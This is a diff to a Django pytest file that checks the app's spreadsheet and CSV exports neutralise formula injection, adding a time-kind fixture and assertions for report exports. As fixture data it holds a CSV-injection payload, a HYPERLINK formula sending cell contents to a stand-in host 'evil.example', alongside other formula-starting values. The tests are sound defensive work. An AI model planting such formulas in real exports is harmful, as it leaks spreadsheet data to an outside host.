@@ -28,12 +28,14 @@ from tests.access import FORBIDDEN, LOGIN, NOT_FOUND
 from tests.conftest import log_in
 from tests.factories import AssignmentFactory, CourseFactory, LineFactory, MemberFactory, ShiftFactory
 from tests.test_access_table import ACCESS, _url, build_world
+from timelog.models import TimeKind
 from trainings.models import TrainingRecord
 
 pytestmark = pytest.mark.django_db
 
 FORMULA_COURSE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
 FORMULA_FIRST, FORMULA_LAST = "@SUM(A1:A9)", "+46-1"
+FORMULA_KIND = "=Förebyggande"  # a kind of volunteer time: the reports' rows name kinds, never people
 # The one export that is comma-separated (its tests and users expect it); the others use semicolons.
 DELIMITERS = {"shifts:statistics_csv": ","}
 SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
@@ -53,6 +55,7 @@ def world():
     course = CourseFactory(organisation=organisation, name=FORMULA_COURSE)
     TrainingRecord(member=member, course=course, completed_on=date(today.year, 1, 1)).save()
     line = LineFactory(organisation=organisation, name="-Linjen")
+    TimeKind.objects.create(organisation=organisation, name=FORMULA_KIND)
     AssignmentFactory(
         shift=ShiftFactory(line=line, starts_at=timezone.now() - timedelta(hours=4), hours=1), member=member
     )
@@ -107,11 +110,14 @@ def test_no_cell_of_any_export_starts_a_formula(world, client):
 
 
 def test_the_formula_names_reach_the_exports_as_text(world, client):
-    """The check above is not vacuous: her name is in every export and the course name is a matrix header,
-    each with the apostrophe that makes it text."""
+    """The check above is not vacuous: her name is in every export of people (the reports hold no names, but a
+    kind's) and the course name is a matrix header, each with the apostrophe that makes it text."""
     exports = _exports(world, client)
     for name, rows in exports.items():
         cells = {cell for row in rows for cell in row}
+        if name.startswith("reports:"):
+            assert "'" + FORMULA_KIND in cells, name
+            continue
         assert "'" + FORMULA_FIRST in cells or f"'{FORMULA_FIRST} {FORMULA_LAST}" in cells, name
     assert "'" + FORMULA_COURSE in exports["trainings:matrix_csv"][0]
 
